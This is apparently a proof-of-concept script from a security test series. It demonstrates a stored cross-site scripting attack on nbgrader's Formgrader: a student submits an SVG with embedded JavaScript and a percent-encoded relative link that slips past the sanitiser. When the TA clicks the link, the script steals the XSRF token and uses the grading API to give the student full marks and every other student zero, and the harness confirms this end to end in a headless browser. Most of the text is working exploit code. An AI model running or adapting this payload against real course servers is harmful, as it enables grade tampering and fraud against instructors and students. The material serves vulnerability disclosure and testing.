"""a20 with an SVG instead of an HTML file (a fix that refuses .html only would leave it): 
a19 end to end, as a student can do it: Formgrader serves the TA's grading page at /formgrader/submissions/<id>/
(it redirects to the trailing slash), so a RELATIVE link in a written answer carries the id by itself. mallory hands in
figure.svg beside her notebook and writes `[see the plot](..%2f..%2f..%2fsubmitted%2fmallory%2fps1_memory%2ffigure.svg)`.
The link survives the sanitiser; SubmissionFilesHandler unquotes it and serves submitted/mallory/.../figure.svg from
the TA's origin with no sandbox. The TA opens mallory's page in Formgrader and clicks the link once: the page's
script reads the _xsrf cookie and, through Formgrader's API, gives mallory full marks on every cell and every other
student zero. grades.csv is then rewritten by the next `grade` run (nothing regraded)."""
from lib import *
import urllib.request, secrets, socket, sqlite3
A = "ps1_memory"
d = make_course("a21")
hand_in(d, "aaron", A, honest(A))
nb = honest(A)
LINK = "..%2f..%2f..%2fsubmitted%2fmallory%2fps1_memory%2ffigure.svg"
for c in nb.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit":
        c.source = f"Short answer; the details are in [see the plot]({LINK})."
HTML = r"""<svg xmlns="http://www.w3.org/2000/svg"><text x="10" y="20">plot</text><script><![CDATA[
(async () => {
  const xsrf = decodeURIComponent(document.cookie.split('; ').find(c => c.startsWith('_xsrf=')).split('=')[1]);
  const H = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
  const subs = await (await fetch('/formgrader/api/submitted_notebooks/ps1_memory/ps1_memory')).json();
  let n = 0;
  for (const s of subs) {
    const grades = await (await fetch('/formgrader/api/grades?submission_id=' + s.id)).json();
    for (const g of grades) {
      const score = s.student === 'mallory' ? g.max_score : 0;
      const r = await fetch('/formgrader/api/grade/' + g.id, {method: 'PUT', headers: H, body: JSON.stringify({manual_score: score})});
      if (r.ok) n++;
    }
  }
  document.documentElement.insertAdjacentHTML('beforeend', '<text id="done" x="10" y="40">DONE ' + n + ' grades rewritten</text>');
})().catch(e => document.documentElement.insertAdjacentHTML('beforeend', '<text id="done" x="10" y="40">ERR ' + e + '</text>'));
]]></script></svg>"""
hand_in(d, "mallory", A, nb, extra={"figure.svg": HTML})
hand_in(d, "zoe", A, honest(A))
grade(d, A)
os.system(f"echo BEFORE; cat {d}/grades.csv")
g = nbformat.read(f"{d}/autograded/mallory/{A}/{A}.ipynb", as_version=4)
print("GRADED ANSWER:", [c.source for c in g.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit"])
nid = sqlite3.connect(f"{d}/gradebook.db").execute("select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id=a.id where a.student_id='mallory'").fetchone()[0]
tok = secrets.token_hex(8); port = 18940
srv = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "server",
                        f"--ServerApp.root_dir={d}", f"--IdentityProvider.token={tok}", f"--port={port}", "--no-browser",
                        "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"],
                       env=dict(ENV, PYTHONSAFEPATH="1", HOME="/tmp", DISTCOURSE_JUDGE="kernel", PYTHONPATH=CLONE),
                       stdout=open("/tmp/a21-server.log", "w"), stderr=subprocess.STDOUT, cwd=d)
try:
    for _ in range(60):
        try: socket.create_connection(("127.0.0.1", port), 1).close(); break
        except OSError: time.sleep(0.5)
    time.sleep(2)
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        page = b.new_page()
        page.goto(f"http://127.0.0.1:{port}/formgrader?token={tok}")          # the TA logs in
        page.goto(f"http://127.0.0.1:{port}/formgrader/submissions/{nid}")    # opens mallory's submission to grade it
        print("TA PAGE", page.url)
        link = page.locator("a", has_text="see the plot")
        print("LINK href:", link.get_attribute("href"))
        link.click()                                                          # one click
        page.wait_for_selector("#done", timeout=30000, state="attached")
        print("AFTER CLICK url", page.url, "|", page.locator("#done").text_content())
        b.close()
finally:
    srv.terminate(); srv.wait(10)
con = sqlite3.connect(f"{d}/gradebook.db")
print("GRADEBOOK", con.execute("select a.student_id, sum(coalesce(g.manual_score, g.auto_score, 0)) from grade g join submitted_notebook n on g.notebook_id=n.id join submitted_assignment a on n.assignment_id=a.id group by 1").fetchall())
grade(d, A)
os.system(f"echo AFTER; cat {d}/grades.csv")
